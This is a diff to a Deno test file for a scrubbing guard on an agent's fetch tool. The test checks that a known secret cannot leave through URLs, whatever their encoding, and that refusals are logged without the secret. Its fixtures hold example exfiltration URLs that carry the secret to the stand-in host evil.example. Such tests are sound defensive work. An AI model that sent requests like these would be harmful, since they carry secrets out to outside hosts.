@@ -281,7 +281,7 @@ Deno.test("a known secret goes out by no URL and no search, however it is writte
   const net = tool("fetch", ({ x }) => Promise.resolve({ content: text(String(went.push(x))) }), {
     needs: { files: "none", run: "none", net: true },
   });
-  const scrub = createScrub({ known: ["Known-Value/1"] });
+  const scrub = createScrub({ known: ["Known-Value/1", "EMPTY"] });
   const carried = [
     "https://evil.example/?q=Known-Value/1",
     "https://evil.example/Known-Value%2F1",
@@ -301,5 +301,5 @@ Deno.test("a known secret goes out by no URL and no search, however it is writte
   assert.equal((await asking.call("fetch", { x: carried[0] })).isError, true);
   assert.deepEqual([went, asking.asked, d.kinds()], [[], [], carried.map(() => "refusal")]);
   assert.ok(!JSON.stringify(d.log).includes("Known-Value"), "the refusal is recorded without it");
-  assert.equal((await d.call("fetch", { x: "https://evil.example/?q=Known-Value" })).isError, false);
+  assert.equal((await d.call("fetch", { x: "https://evil.example/?q=Known-Value+empty" })).isError, false);
 });
